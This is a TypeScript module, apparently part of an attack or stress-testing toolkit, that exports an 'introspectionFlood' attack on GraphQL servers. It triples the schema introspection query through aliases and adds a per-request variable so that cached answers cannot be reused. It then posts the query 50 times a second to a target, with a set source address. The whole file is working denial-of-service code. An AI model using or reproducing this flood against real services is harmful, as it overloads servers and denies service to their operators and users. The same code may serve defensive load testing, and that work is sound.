import { getIntrospectionQuery } from 'graphql';
import { hostileRequests, type Attack } from './attack.ts';

const PER_SECOND = 50;
const ADDRESS = '203.0.113.1';

/** As many answers as fit into one request. */
const PARTS = 3;

/** The query of GraphQL tools, several times, with a variable whose value no cached answer was made for. */
const QUERY = repeatSchema(getIntrospectionQuery()).replace(
  'query IntrospectionQuery {',
  'query IntrospectionQuery($name: String!) { asked: __type(name: $name) { name }',
);

function repeatSchema(query: string): string {
  const start = query.indexOf('__schema {');
  const end = query.indexOf('fragment FullType');
  const field = query.slice(start, query.lastIndexOf('}', end));
  const parts = Array.from({ length: PARTS }, (_, at) => `s${at}: ${field}`);

  return `${query.slice(0, start)}${parts.join('\n')}}\n${query.slice(end)}`;
}

/** Sends introspections, 50 a second, and waits for each answer. */
export const introspectionFlood: Attack = (target) => {
  const requests = hostileRequests(target);
  let serial = 0;
  const timer = setInterval(() => {
    serial += 1;
    void requests.post({ query: QUERY, variables: { name: `T${serial}` } }, { address: ADDRESS });
  }, 1_000 / PER_SECOND);

  return Promise.resolve({
    stop: () => {
      clearInterval(timer);
      return Promise.resolve(requests.hangUp());
    },
  });
};
